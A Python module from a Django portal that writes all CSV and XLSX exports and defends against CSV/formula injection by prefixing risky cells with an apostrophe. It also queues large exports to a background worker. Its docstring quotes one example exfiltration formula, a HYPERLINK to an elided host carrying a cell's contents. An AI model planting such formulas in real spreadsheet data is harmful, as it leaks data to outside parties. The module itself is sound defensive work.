"""The one place CSV and XLSX files are written (every export of every app goes through here).

A cell a citizen typed may start with ``=``, ``+``, ``-``, ``@`` (or a tab / carriage return that a spreadsheet
strips before looking): Excel and LibreOffice would run it as a formula (``=HYPERLINK("http://…?leak="&A1,"x")``).
``neutralize`` prefixes such text with an apostrophe, the OWASP "CSV injection" advice: the cell shows the text
as typed and nothing is evaluated. XLSX cells are additionally written as explicit strings, never as formulas.

House rule ``exports-in-one-place`` (scripts/house_rules.sh): ``csv.writer`` and ``openpyxl.Workbook`` appear
nowhere else outside the tests.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

from django.http import HttpResponse, StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Characters XML 1.0 (and so XLSX) cannot hold: openpyxl raises IllegalCharacterError on them.
_XML_ILLEGAL = dict.fromkeys([*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0xFFFE, 0xFFFF])


def neutralize(value):
    """A cell value a spreadsheet shows as text: numbers, dates and None pass; text that a spreadsheet would read
    as a formula gets a leading apostrophe."""
    if value is None or isinstance(value, bool | int | float):
        return value
    if not isinstance(value, str):
        if hasattr(value, "isoformat"):
            return value
        value = str(value)
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable) -> list:
    return [neutralize(v) for v in row]


class _Echo:
    def write(self, value):
        return value


def csv_response(filename: str, header: Sequence[str], rows: Iterable[Iterable]) -> StreamingHttpResponse:
    """A streamed UTF-8 CSV (with BOM, so Excel reads the accents) whose every cell is neutralized."""
    writer = csv.writer(_Echo())

    def stream():
        yield "\ufeff"
        yield writer.writerow(safe_row(header))
        for row in rows:
            yield writer.writerow(safe_row(row))

    response = StreamingHttpResponse(stream(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def _xlsx_cell(value):
    value = neutralize(value)
    if isinstance(value, str):
        return value.translate(_XML_ILLEGAL)
    return value


def xlsx_bytes(sheet: str, header: Sequence[str], rows: Iterable[Iterable]) -> bytes:
    """An XLSX workbook (write-only, so memory stays flat) whose text cells are strings, never formulas."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(sheet[:31])

    def cells(row):
        out = []
        for value in row:
            value = _xlsx_cell(value)
            cell = WriteOnlyCell(ws, value=value)
            if isinstance(value, str):
                cell.data_type = "s"  # openpyxl would otherwise store "=…" as a formula
            out.append(cell)
        return out

    ws.append(cells(header))
    for row in rows:
        ws.append(cells(row))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def xlsx_response(filename: str, sheet: str, header: Sequence[str], rows: Iterable[Iterable]) -> HttpResponse:
    response = HttpResponse(xlsx_bytes(sheet, header, rows), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# ---------------------------------------------------------------------------------------------------------------
# Large exports are built once by the worker into a file and served as that file.
#
# An app registers a *table builder* (``register_table("consultations.comments", fn)``): ``fn(**params)`` returns a
# ``Table`` (file name, sheet, header, rows). The view checks access, then calls ``table_response``: a small table is
# written in the request as before; a large one is looked up as a file keyed by (builder, params, version) — the
# app's data version, which changes whenever a row would — and, when absent, queued in django-q2 while the person sees
# a page with the progress that reloads itself and then downloads the file. The same request URL is polled, so the
# access check runs on every visit; the files live under MEDIA_ROOT/exports/ and are never linked directly.
# ---------------------------------------------------------------------------------------------------------------

EXPORT_INLINE_MAX = 5000  # rows written inside the request (a second or two); above: the worker builds a file
EXPORT_STATE_TTL = 60 * 60  # seconds the "pending"/"failed" state and the progress are kept
EXPORT_TIMEOUT = 15 * 60  # seconds a build may take in the worker
_PROGRESS_EVERY = 1000

_TABLES: dict = {}


class Table:
    """What a builder returns: the download's file name (without extension), the XLSX sheet, header and rows."""

    def __init__(self, *, filename: str, sheet: str, header: Sequence[str], rows: Iterable[Iterable]):
        self.filename, self.sheet, self.header, self.rows = filename, sheet, header, rows


def register_table(name: str, builder) -> None:
    """``builder(**params) -> Table``; params must be JSON-like (ids and strings), as they travel to the worker."""
    _TABLES[name] = builder


def _export_dir():
    from pathlib import Path

    from django.conf import settings

    return Path(settings.MEDIA_ROOT) / "exports"


def _keys(name: str, params: dict, version: str, fmt: str) -> tuple[str, str]:
    """(the cache key of this build, the file's path) — the file name carries the params' and the version's digest."""
    import hashlib
    import json

    family = hashlib.sha256(json.dumps([name, params], sort_keys=True).encode()).hexdigest()[:20]
    digest = hashlib.sha256(str(version).encode()).hexdigest()[:12]
    return f"exports.{family}.{digest}.{fmt}", str(_export_dir() / f"{family}-{digest}.{fmt}")


def _write(table: Table, fmt: str, out, progress=None) -> int:
    """Write the table to the binary file ``out``; ``progress(n)`` every few rows; returns the row count."""
    n = 0

    def counted():
        nonlocal n
        for row in table.rows:
            n += 1
            if progress is not None and n % _PROGRESS_EVERY == 0:
                progress(n)
            yield row

    if fmt == "csv":
        text = io.TextIOWrapper(out, encoding="utf-8", newline="")
        text.write("\ufeff")
        writer = csv.writer(text)
        writer.writerow(safe_row(table.header))
        for row in counted():
            writer.writerow(safe_row(row))
        text.flush()
        text.detach()
    else:
        out.write(xlsx_bytes(table.sheet, table.header, counted()))
    return n


def build_table_file(name: str, params: dict, version: str, fmt: str) -> str:
    """The worker's task: build the file (written whole, then renamed), drop older versions of the same export."""
    import os
    from pathlib import Path

    from django.core.cache import cache

    key, path = _keys(name, params, version, fmt)
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    tmp = target.with_name(target.name + ".tmp")
    try:
        table = _TABLES[name](**params)
        with tmp.open("wb") as out:
            _write(table, fmt, out, progress=lambda n: cache.set(key + ".rows", n, EXPORT_STATE_TTL))
        os.replace(tmp, target)
    except Exception:
        tmp.unlink(missing_ok=True)
        cache.set(key, "failed", EXPORT_STATE_TTL)
        raise
    family = target.name.split("-", 1)[0]
    for old in target.parent.glob(f"{family}-*.{fmt}"):
        if old != target:
            old.unlink(missing_ok=True)
    cache.set(key, "done", EXPORT_STATE_TTL)
    return path


def table_response(
    request, *, name: str, params: dict, version, fmt: str, total: int, title: str, back_url: str
):
    """The export for a person allowed to have it (the caller checked): the rows now if few, else the worker's file.

    ``total`` is the number of rows (for the choice and the progress bar); ``version`` changes whenever any row
    would (or a callable giving it, asked only when the file path is taken). A POST with ``thu-lai`` queues a failed
    build again.
    """
    from pathlib import Path

    from django.core.cache import cache
    from django.http import FileResponse, Http404
    from django.shortcuts import render
    from django.utils.http import content_disposition_header

    if fmt not in ("csv", "xlsx") or name not in _TABLES:
        raise Http404
    if total <= EXPORT_INLINE_MAX:
        table = _TABLES[name](**params)
        if fmt == "csv":
            return csv_response(f"{table.filename}.csv", table.header, table.rows)
        return xlsx_response(f"{table.filename}.xlsx", table.sheet, table.header, table.rows)
    if callable(version):
        version = version()
    key, path = _keys(name, params, version, fmt)
    if Path(path).exists():
        table = _TABLES[name](**params)  # only its file name is read; the rows are a lazy iterable
        response = FileResponse(
            open(path, "rb"),  # noqa: SIM115 - FileResponse closes it
            content_type=XLSX_CONTENT_TYPE if fmt == "xlsx" else "text/csv; charset=utf-8",
        )
        response["Content-Disposition"] = content_disposition_header(True, f"{table.filename}.{fmt}")
        return response
    state = cache.get(key)
    if state is None or (state == "failed" and request.method == "POST"):
        cache.set(key, "pending", EXPORT_STATE_TTL)
        cache.delete(key + ".rows")
        from django_q.tasks import async_task

        async_task(
            "portal.exports.build_table_file",
            name,
            params,
            str(version),
            fmt,
            timeout=EXPORT_TIMEOUT,
            task_name=f"{key}"[:100],
        )
        state = "pending"
    done = min(cache.get(key + ".rows") or 0, total)
    context = {
        "state": state,
        "title": title,
        "fmt": fmt.upper(),
        "total": total,
        "done": done,
        "percent": int(done * 100 / total) if total else 0,
        "back_url": back_url,
    }
    return render(request, "portal/export_pending.html", context, status=202 if state == "pending" else 200)
